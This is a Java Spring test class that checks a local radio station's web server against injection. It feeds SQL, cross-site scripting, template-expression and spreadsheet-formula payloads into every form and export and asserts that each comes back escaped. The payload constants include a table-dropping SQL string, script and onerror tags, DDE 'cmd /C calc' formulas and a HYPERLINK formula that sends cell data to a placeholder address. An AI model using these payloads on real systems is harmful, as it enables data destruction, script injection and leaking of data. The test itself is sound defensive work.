package vn.loaphuong.server.pages;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Deque;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.assertj.core.api.SoftAssertions;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.core.MethodParameter;
import org.springframework.http.HttpMethod;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.transaction.annotation.Transactional;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import vn.loaphuong.airing.AgentMessages.Pairing;
import vn.loaphuong.airing.SigningKeys;
import vn.loaphuong.server.ServerTest;
import vn.loaphuong.server.agents.StationPcs;
import vn.loaphuong.server.library.BulletinKind;
import vn.loaphuong.server.library.Library;
import vn.loaphuong.server.people.PeopleRegister;
import vn.loaphuong.server.people.Role;
import vn.loaphuong.server.people.SignedIn;
import vn.loaphuong.server.plans.Every;
import vn.loaphuong.server.plans.Plan;
import vn.loaphuong.server.plans.PlanDesk;
import vn.loaphuong.server.plans.Span;
import vn.loaphuong.server.plans.Target;
import vn.loaphuong.server.programmes.Programme;
import vn.loaphuong.server.programmes.Rhythm;
import vn.loaphuong.server.programmes.Studio;
import vn.loaphuong.server.residents.FeedbackDesk;
import vn.loaphuong.server.residents.FeedbackDraft;
import vn.loaphuong.server.timetable.Recurrence;
import vn.loaphuong.server.timetable.SlotDraft;
import vn.loaphuong.server.timetable.Timetable;
import vn.loaphuong.server.trail.Change;

/**
 * SQL, HTML, template expressions and spreadsheet formulas in every field of every form and query
 * there is, found by asking the handlers themselves; then every page and export is looked over.
 */
class InjectionTest extends ServerTest {

  private static final String SQL = "x' or 1=1; drop table person; --";
  private static final String HTML =
      "\"'><script>alert(4711)</script><img src=x onerror=alert(4711)>";
  private static final String TEMPLATE =
      "__${191*700001}__::.x ${191*700001} *{191*700001} #{x} [[${191*700001}]]";
  private static final String FORMULA = "=HYPERLINK(\"http://192.0.2.1/?\"&A1;\"bấm\")";
  private static final List<String> EVIL =
      List.of(SQL, HTML, TEMPLATE, FORMULA, "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "{0} %s %n");

  /** None as long as the shortest field, and each what somebody might hope to get through. */
  private static final List<String> SHORT_EVIL =
      List.of(
          "\"'><script>alert(4711)</script>",
          "<img src=x onerror=alert(4711)>",
          "'); drop table person; --",
          "[[${191*700001}]] ${191*700001}",
          "=1+cmd|'/C calc'!A0");

  private static final String TYPED =
      "input[type=text], input[type=search], input[type=email], input[type=url],"
          + " input:not([type]), textarea";

  /**
   * Fields that take only what they are for, though they look like any other; a year's days, which
   * are refused where one column is shorter than the others; and the residents' form, which is
   * refused when it comes back within seconds, and whose texts the other test hands to the desk.
   */
  private static final Set<String> ONLY_WHAT_FITS =
      Set.of(
          "/bulletins/{id}/corrections spoken",
          "/calendar/years/{n} name",
          "/me/second-step/confirm code",
          "/residents/feedback heardAt",
          "/residents/feedback name",
          "/residents/feedback text",
          "/residents/feedback website",
          "/settings/alarms mailTo",
          "/settings/alarms webhook",
          "/settings/people name",
          "/settings/relays address",
          "/settings/voice/corrections spoken",
          "/settings/voice/lexicon lexicon");

  @Autowired
  @Qualifier("requestMappingHandlerMapping")
  private RequestMappingHandlerMapping handlers;

  @Autowired private PeopleRegister people;
  @Autowired private FeedbackDesk feedback;
  @Autowired private Library library;
  @Autowired private Timetable timetable;
  @Autowired private Studio studio;
  @Autowired private PlanDesk plans;
  @Autowired private StationPcs pcs;
  @Autowired private JdbcClient jdbc;
  @Autowired private org.springframework.context.ApplicationEventPublisher events;

  private SignedIn root;

  @BeforeEach
  void somebodyWhoMayDoEverything() {
    root =
        people.all().stream()
            .filter(known -> known.name().equals("Người thử mọi thứ"))
            .findAny()
            .map(SignedIn::new)
            .orElseGet(() ->
                new SignedIn(
                    people.add("Người thử mọi thứ", "mật khẩu của đài", Set.of(Role.values()))));
  }

  @Test
  void nothingThatIsTypedIsEverMoreThanText() {
    Set<String> fields = new TreeSet<>();
    SoftAssertions all = new SoftAssertions();
    for (var handler : handlers.getHandlerMethods().entrySet()) {
      for (String pattern : handler.getKey().getPatternValues()) {
        if (!isForPeople(pattern)) {
          continue;
        }
        List<String> names = fieldsOf(handler.getValue());
        names.forEach(name -> fields.add(pattern + " " + name));
        for (String evil : List.of(SQL, HTML + TEMPLATE)) {
          MvcTestResult answer = send(handler.getKey(), pattern, names, evil);
          all.assertThat(answer.getResponse().getStatus())
              .as("%s with %s", pattern, evil)
              .isLessThan(500);
          judge(all, pattern, answer);
        }
      }
    }
    assertThat(fields.size()).as("fields tried: " + fields).isGreaterThan(60);
    all.assertAll();
    assertThat(jdbc.sql("select count(*) from person").query(Long.class).single()).isPositive();
  }

  /** One field at a time, so that no refusal of another field hides what becomes of it. */
  @Test
  @Transactional
  void whatIsTypedIntoOneFieldIsTextWhereAllOthersAreRight() {
    oneOfEach();
    SoftAssertions all = new SoftAssertions();
    Map<String, Boolean> taken = new TreeMap<>();
    for (Document page : crawled(all)) {
      for (Element form : page.select("form:not([enctype])")) {
        String action = shape(form.attr("action"));
        for (Element field : form.select(TYPED)) {
          String key = action + " " + field.attr("name").replaceAll("\\d+", "N");
          if (field.attr("name").isEmpty() || taken.containsKey(key)) {
            continue;
          }
          taken.put(key, false);
          for (String evil : SHORT_EVIL) {
            MvcTestResult answer = submit(form, field.attr("name"), evil);
            int status = answer.getResponse().getStatus();
            all.assertThat(status).as("%s with %s", key, evil).isLessThan(500);
            judge(all, key, answer);
            if (status < 400) {
              taken.put(key, true);
            }
          }
        }
      }
    }
    assertThat(taken).as("fields of forms").hasSizeGreaterThan(40);
    assertThat(taken.entrySet().stream().filter(one -> !one.getValue()).map(Map.Entry::getKey))
        .as("fields that take no evil text at all")
        .isSubsetOf(ONLY_WHAT_FITS);
    List<Document> after = crawled(all);
    assertThat(after.stream().map(Document::text).filter(text -> text.contains("alert(4711)")))
        .as("pages that show what was typed")
        .hasSizeGreaterThan(10);
    all.assertAll();
  }

  /** Something of everything that has a page of its own. */
  private void oneOfEach() {
    String bulletin =
        library.write(root.actor(), BulletinKind.NOTICE, "Họp", "PAPI", "Họp tổ dân phố.").id();
    timetable.add(
        new SlotDraft(
            "Họp",
            bulletin,
            Recurrence.Weekly.daily(LocalTime.of(17, 0), LocalDate.of(2026, 11, 24)),
            true,
            null));
    Programme programme =
        studio.begin("Nhịp sống", Rhythm.MONTHLY, Duration.ofMinutes(10), Duration.ofMinutes(15));
    studio.beginEdition(root.actor(), programme.id(), LocalDate.of(2026, 11, 24));
    plans.add(
        new Plan(
            "",
            "70/KH-UBND",
            LocalDate.of(2026, 1, 15),
            "Tuyên truyền PAPI",
            List.of("PAPI"),
            new Span(LocalDate.of(2026, 1, 1), LocalDate.of(2026, 12, 31)),
            List.of(
                new vn.loaphuong.server.plans.Row(
                    "Tin, bài", "Đài", "", "", "", new Target.Items(2, Every.MONTH))),
            List.of(),
            null));
    pcs.pair(
        new Pairing(
            pcs.issueCode("root").code(),
            SHORT_EVIL.getFirst(),
            SigningKeys.generate().getPublic().getEncoded()),
        "127.0.0.1");
  }

  /** What somebody can reach by following links, two of each kind. */
  private List<Document> crawled(SoftAssertions all) {
    Map<String, Integer> seen = new HashMap<>();
    Deque<String> waiting = new ArrayDeque<>(pages());
    List<Document> found = new ArrayList<>();
    while (!waiting.isEmpty()) {
      String page = waiting.remove();
      if (seen.merge(shape(page), 1, Integer::sum) > 2) {
        continue;
      }
      MvcTestResult answer = http.get().uri(URI.create(page)).with(user(root)).exchange();
      judge(all, page, answer);
      if (!String.valueOf(answer.getResponse().getContentType()).startsWith("text/html")) {
        continue;
      }
      Document document =
          Jsoup.parse(
              new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8));
      found.add(document);
      for (Element link : document.select("a[href^=/]")) {
        if (!link.attr("href").startsWith("/api/")) {
          waiting.add(link.attr("href"));
        }
      }
    }
    return found;
  }

  /** A path without what differs from one thing to the next. */
  private static String shape(String path) {
    return path.replaceAll("\\?.*", "")
        .replaceAll("/[0-9a-f]{8}-[0-9a-f-]{27}[^/]*", "/{id}")
        .replaceAll("/[0-9][^/]*", "/{n}");
  }

  /** Sends a form as a browser would: what stands in it, and evil in one place. */
  private MvcTestResult submit(Element form, String evilField, String evil) {
    boolean changes = form.attr("method").equalsIgnoreCase("post");
    MockMvcTester.MockMvcRequestBuilder request =
        http.method(changes ? HttpMethod.POST : HttpMethod.GET)
            .uri(URI.create(form.attr("action")))
            .with(csrf())
            .with(user(root));
    Set<String> given = new HashSet<>();
    for (Element control : form.select("input[name], textarea[name], select[name]")) {
      String name = control.attr("name");
      String type = control.attr("type");
      boolean choice = type.equals("checkbox") || type.equals("radio");
      if (name.equals("_csrf")
          || type.equals("file")
          || name.equals(evilField)
          || (choice
              && !control.hasAttr("checked")
              && !(form.select("[name=" + name + "][checked]").isEmpty() && given.add(name)))) {
        continue;
      }
      if (control.normalName().equals("select")) {
        Element option = control.selectFirst("option[selected]:not([value=''])");
        option = option == null ? control.selectFirst("option:not([value=''])") : option;
        request.param(name, option == null ? "" : option.attr("value"));
      } else {
        String value =
            control.normalName().equals("textarea") ? control.wholeText() : control.attr("value");
        if (name.equals("version")) {
          value = currentVersion(form.attr("action"));
        }
        request.param(name, value.isEmpty() && !choice ? usual(name) : value);
      }
    }
    return request.param(evilField, evil).exchange();
  }

  /** What was changed a moment ago has another version than the page that was read before. */
  private String currentVersion(String action) {
    String page = action.replaceAll("/(frame|items)$", "");
    String asked = page.startsWith("/bulletins/") ? page + "?edit" : page;
    MvcTestResult answer = http.get().uri(URI.create(asked)).with(user(root)).exchange();
    Element version =
        Jsoup.parse(
                new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8))
            .selectFirst("input[name=version]");
    return version == null ? "" : version.attr("value");
  }

  /** What people write where nothing stands yet. */
  private static String usual(String field) {
    return switch (field) {
      case "password", "oldPassword" -> "mật khẩu của đài";
      case "name" -> "Tên " + UUID.randomUUID();
      case "title", "subject", "what", "remark", "text", "words", "written", "spoken" ->
          "Họp tổ dân phố";
      case "until" -> "2026-12-31";
      case "date", "day", "first", "last" -> "2026-12-01";
      case "time" -> "17:10";
      case "address" -> "https://dai.example/live.mp3";
      default -> "";
    };
  }

  @Test
  void whatIsStoredIsShownAsText() {
    for (String evil : EVIL) {
      library.write(root.actor(), BulletinKind.NOTICE, evil, shortened(evil), "Họp. " + evil);
      events.publishEvent(
          Change.of("trail.station.changed", "station", evil)
              .with("settings.name", evil, evil + evil));
      String stamp = feedback.stamp();
      clock.set(clock.instant().plusSeconds(5));
      feedback.receive(
          new FeedbackDraft("Phản ánh " + evil, evil, "", "", shortened(evil), "", stamp), evil);
      feedback.answer(root.actor(), feedback.list(null, 1).getFirst().id(), evil, true);
    }
    SoftAssertions all = new SoftAssertions();
    List<String> pages = pages();
    for (String page : pages) {
      judge(all, page, http.get().uri(page).with(user(root)).exchange());
    }
    all.assertAll();
    assertThat(pages)
        .contains("/", "/bulletins", "/settings/trail", "/settings/people", "/feedback")
        .contains("/residents/feedback", "/residents");
    assertThat(http.get().uri("/residents/feedback"))
        .bodyText()
        .contains("&lt;script&gt;alert(4711)");
    assertThat(http.get().uri("/bulletins").with(user(root)))
        .bodyText()
        .contains("&lt;script&gt;alert(4711)");
  }

  @Test
  void noExportHasAFormulaInIt() throws Exception {
    for (String evil : EVIL) {
      events.publishEvent(
          Change.of("trail.station.changed", "station", evil)
              .with("settings.name", evil, evil + "x")
              .by("evil", evil));
    }
    String csv =
        new String(
            http.get()
                .uri("/settings/trail/export.csv")
                .with(user(root))
                .exchange()
                .getResponse()
                .getContentAsByteArray(),
            StandardCharsets.UTF_8);
    List<List<String>> lines = parsed(csv.substring(1));
    assertThat(lines).hasSizeGreaterThan(EVIL.size());
    assertThat(lines).allSatisfy(line -> assertThat(line).hasSize(9));
    assertThat(lines.stream().flatMap(List::stream))
        .noneMatch(field -> field.matches("(?s)[=+\\-@\\t\\r\\n].*"))
        .anyMatch(field -> field.equals("'" + FORMULA));

    byte[] book =
        http.get()
            .uri("/api/v1/airings.xlsx")
            .with(user(root))
            .exchange()
            .getResponse()
            .getContentAsByteArray();
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(book))) {
      for (Sheet sheet : workbook) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
          }
        }
      }
    }
  }

  private static boolean isForPeople(String pattern) {
    return !pattern.startsWith("/api/v1/agent")
        && !pattern.startsWith("/v3/")
        && !pattern.equals("/error")
        // Would end the session or make the administrator anew.
        && !pattern.contains("first-run");
  }

  private List<String> pages() {
    return handlers.getHandlerMethods().keySet().stream()
        .filter(info -> info.getMethodsCondition().getMethods().contains(RequestMethod.GET))
        .flatMap(info -> info.getPatternValues().stream())
        .filter(
            pattern -> isForPeople(pattern) && !pattern.contains("{") && !pattern.contains("/api/"))
        .distinct()
        .sorted()
        .toList();
  }

  /** What a handler takes: its parameters, and those of the records it has filled. */
  private static List<String> fieldsOf(HandlerMethod handler) {
    List<String> names = new ArrayList<>();
    for (MethodParameter parameter : handler.getMethodParameters()) {
      Class<?> type = parameter.getParameterType();
      if (parameter.hasParameterAnnotation(RequestParam.class)) {
        parameter.initParameterNameDiscovery(
            new org.springframework.core.DefaultParameterNameDiscoverer());
        String name = parameter.getParameterName();
        RequestParam given = parameter.getParameterAnnotation(RequestParam.class);
        names.add(given == null || given.name().isEmpty() ? String.valueOf(name) : given.name());
      } else if (type.isRecord()) {
        Arrays.stream(type.getRecordComponents())
            .forEach(component -> names.add(component.getName()));
      }
    }
    return names;
  }

  private MvcTestResult send(
      RequestMappingInfo handler, String pattern, List<String> names, String evil) {
    Set<RequestMethod> methods = handler.getMethodsCondition().getMethods();
    HttpMethod method =
        methods.isEmpty() ? HttpMethod.GET : methods.iterator().next().asHttpMethod();
    String path = pattern.replaceAll("\\{[^}]*}", "nobodys-id").replace("/**", "/x");
    MockMvcTester.MockMvcRequestBuilder request =
        http.method(method)
            .uri(path)
            .header("Sec-Fetch-Site", "same-origin")
            .with(csrf())
            .with(user(root));
    for (String name : names) {
      request.param(name, evil);
    }
    return request.exchange();
  }

  private static void judge(SoftAssertions all, String place, MvcTestResult answer) {
    String type = String.valueOf(answer.getResponse().getContentType());
    if (!type.startsWith("text/html")) {
      return;
    }
    String html = new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
    all.assertThat(html)
        .as(place)
        .doesNotContain(
            "<script>alert", "<img src=x", "133700191", "Exception", "SQLITE", "org.sqlite");
  }

  private static String shortened(String evil) {
    return evil.substring(0, Math.min(60, evil.length()));
  }

  /** RFC 4180 with semicolons. */
  private static List<List<String>> parsed(String csv) {
    List<List<String>> lines = new ArrayList<>();
    List<String> line = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        field.append(c);
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ';' || c == '\n')) {
        line.add(field.toString());
        field.setLength(0);
        if (c == '\n') {
          lines.add(List.copyOf(line));
          line.clear();
        }
      } else if (quoted || c != '\r') {
        field.append(c);
      }
    }
    return lines;
  }
}
